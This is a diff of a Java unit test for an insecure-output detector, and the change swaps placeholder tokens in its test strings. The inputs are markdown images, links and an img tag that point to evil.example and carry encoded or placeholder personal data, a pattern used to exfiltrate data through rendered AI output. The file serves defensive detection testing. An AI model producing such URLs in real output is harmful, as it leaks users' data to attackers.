@@ -32,10 +32,10 @@ class InsecureOutputDetectorTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "![x](https://evil.example/p.png?d=[EMAIL_ADDRESS_K7QXM_1])",
-                "![x](https://evil.example/%5Bemail_address_k7qxm_1%5D.png)",
-                "![x](<https://evil.example/p.png?d=a b [EMAIL_ADDRESS_K7QXM_1]>)",
-                "<img src='https://PERSON_K7QXM_1.evil.example/'>",
+                "![x](https://evil.example/p.png?d=[EMAIL_ADDRESS_KTQXM_RTWNK])",
+                "![x](https://evil.example/%5Bemail_address_ktqxm_rtwnk%5D.png)",
+                "![x](<https://evil.example/p.png?d=a b [EMAIL_ADDRESS_KTQXM_RTWNK]>)",
+                "<img src='https://PERSON_KTQXM_RTWNK.evil.example/'>",
                 "![x](https://evil.example/aHR0cHMgaXMgYSBwcm90b2NvbA)",
                 "[x](https://evil.example/?d=aHR0cHMgaXMgYSBwcm90b2NvbA)",
                 "See https://evil.example/6164612c2074686520666972737420746f20646f.",
